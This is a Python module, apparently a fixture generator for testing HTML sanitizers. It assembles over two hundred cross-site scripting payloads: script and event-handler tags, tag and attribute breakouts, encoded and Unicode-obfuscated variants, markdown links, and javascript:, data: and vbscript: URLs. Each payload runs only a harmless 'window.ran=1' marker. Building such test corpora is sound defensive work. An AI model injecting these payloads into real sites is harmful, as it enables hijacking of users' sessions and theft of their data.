"""Two hundred ways to make a page run a script that it should only print."""

from __future__ import annotations

from itertools import product

RUN = "window.ran=1"

_MARKUP = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src=data:,{run}></script>",
    "<script/x>{run}</script/x>",
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}>",
    "<img src=x onerror='{run}'//",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror={run}></style></mtext></math>",
    "<body onload={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src='javascript:parent.{run}'></iframe>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>x</details>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<marquee onstart={run}>x</marquee>",
    "<a href='javascript:{run}' autofocus onfocus={run}>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href='javascript:{run}//'>",
    "<link rel=stylesheet href='javascript:{run}'>",
    "<style>@import 'javascript:{run}';</style>",
    "<form action='javascript:{run}'><button autofocus onfocus={run}>x</button></form>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'></xmp>",
    "<plaintext onmouseover={run}>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[><script>{run}</script>]]>",
    "<?xml?><script>{run}</script>",
    "<custom-element onpointerrawupdate={run} autofocus tabindex=1 onfocus={run}>x</custom-element>",
)
_ESCAPES = ("", '">', "'>", "-->", "</script>", "</title>", "</textarea></style>", "]]>")
_WORDS = (
    '" onfocus={run} autofocus x="',
    "' onfocus={run} autofocus x='",
    '" style="x:expression({run})',
    '" onerror={run} x="',
    "` onmouseover={run} `",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "{{ {run} }}",
    "{% raw %}<script>{run}</script>",
    "${{run}}",
    "\u2028{run}//",
    '"}}</script><script>{run}</script>',
    "<!--<script>{run}",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "＜script＞{run}＜/script＞",
    "\u202e<script>{run}</script>",
    "<scr\u200bipt>{run}</scr\u200bipt>",
    "[x](javascript:{run})",
    '![x](x"onerror="{run})',
    "<javascript:{run}>",
    "[x]: javascript:{run}",
    "*<img src=x onerror={run}>*",
)
_ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "java\tscript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "data:text/html,<script>parent.{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=",
    "vbscript:{run}",
    '//evil.example/" onmouseover={run} x="',
    "x:{run}",
    "javascript://%0a{run}",
)


def payloads() -> tuple[str, ...]:
    """At least two hundred texts; each, run by a browser, would set ``window.ran``."""
    broken_out = [before + markup for before, markup in product(_ESCAPES[:5], _MARKUP)]
    others = [before + _MARKUP[4] for before in _ESCAPES[5:]]
    return tuple(text.replace("{run}", RUN) for text in (*broken_out, *others, *_WORDS, *_ADDRESSES))


def addresses() -> tuple[str, ...]:
    """Those that are addresses."""
    return tuple(text.replace("{run}", RUN) for text in _ADDRESSES)
